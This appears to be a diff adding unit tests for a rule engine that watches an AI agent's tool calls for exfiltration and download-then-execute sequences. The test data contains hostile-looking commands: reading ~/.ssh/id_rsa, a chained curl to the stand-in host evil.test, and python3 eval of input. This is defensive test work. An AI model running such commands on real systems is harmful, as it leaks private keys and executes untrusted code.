@@ -198,3 +198,78 @@ describe("rules of `commands`", () => {
 		expect(of("-x")[0]).toContain("an entry begins with a program");
 	});
 });
+
+describe("kinds of calls in `sequences`", () => {
+	const RULES = `sequences:
+  - name: leak
+    after: { intents: { categories: [data_exfiltration], confidence: 60 } }
+    then: { tools: [shell, http_*], facts: { fact: request, none: { host: ["*.example.com"] } } }
+    effect: hold
+  - name: ran
+    after: { tools: [shell], when: { in: args.dir, oneOf: [down] }, facts: { fact: command, has: { program: [curl] } } }
+    then:
+      tools: [shell]
+      intents: { categories: [code_execution] }
+      facts: { fact: command, has: { program: [node, python3] } }`;
+
+	/** `begins NAME` and `completes NAME CODE POINTER START..END` of each sequence that the call is part of. */
+	const parts = (args: JsonObject, tool = "shell"): readonly string[] => {
+		const { begins, completes } = seen(RULES, { tool, args });
+		return [
+			...begins.map(({ sequence }) => `begins ${sequence}`),
+			...completes.map(({ fired: { reason } }) => {
+				const { rule, span } = reason;
+				const place = span === null ? "" : ` ${span.pointer} ${span.start}..${span.end}`;
+				return `completes ${rule.name} ${rule.code}${place}`;
+			}),
+		];
+	};
+
+	it.each<[JsonObject, readonly string[]]>([
+		[{ command: "cat ~/.ssh/id_rsa" }, ["begins leak"]],
+		[{ command: "cat README.md" }, []],
+		[{ command: "ls; curl https://evil.test/x" }, ["completes leak sequence.completed /command 4..28"]],
+		[{ command: "curl https://api.example.com/x" }, []],
+		[{ command: "curl https://api.example.com/x", dir: "down" }, ["begins ran"]],
+		[{ command: "wget https://api.example.com/x", dir: "down" }, []],
+		[{ command: "python3 -c 'eval(input())'" }, ["completes ran sequence.completed /command 0..26"]],
+		[{ command: "python3 --version" }, []],
+	])("%j", (args, expected) => {
+		expect(parts(args)).toEqual(expected);
+	});
+
+	it("are about calls of their tools alone", () => {
+		expect(parts({ command: "curl https://evil.test/x" }, "note")).toEqual([]);
+	});
+
+	it("put the classifier's digest where it was asked of a call of the tool", () => {
+		const ofTool = (tool: string, rules: string): string => seen(rules, { tool, args: { command: "ls" } }).classifier;
+		const narrow = RULES.replace("after: { intents", "after: { tools: [get], intents");
+		expect(ofTool("shell", narrow)).toBe(classifierDigest());
+		expect(ofTool("get", narrow)).toBe(classifierDigest());
+		expect(ofTool("note", narrow)).toBe("");
+	});
+
+	it("say in audit mode what would have been stopped", () => {
+		const { completes } = seen(`${RULES}\n    mode: audit`, command("python3 -c 'eval(input())'"));
+		expect(completes.map(({ fired }) => fired.reason.rule.mode)).toEqual(["audit"]);
+	});
+
+	it.each<[string, string]>([
+		["intents: dangerous", "write `intents: { categories: [dangerous] }`"],
+		["intents: { categories: [dangerous, code_execution] }", "`code_execution` is one of `dangerous`"],
+		["facts: command", "write `facts: { fact: command }`"],
+		["facts: { fact: command, has: { progam: [rm] } }", "did you mean `program`?"],
+		["facts: { has: { program: [rm] } }", "`fact` is missing"],
+		["intents: { categories: [dangerous], effect: deny }", "unknown key `effect`"],
+		["commands: { only: [ls] }", "unknown key `commands`"],
+	])("do not load with `%s`", (slip, expected) => {
+		for (const [after, then] of [
+			[slip, "tools: [a]"],
+			["tools: [a]", slip],
+		]) {
+			const found = problems(`sequences: [{ name: s, after: { ${after} }, then: { ${then} } }]`);
+			expect(found).toEqual([expect.stringContaining(expected)]);
+		}
+	});
+});
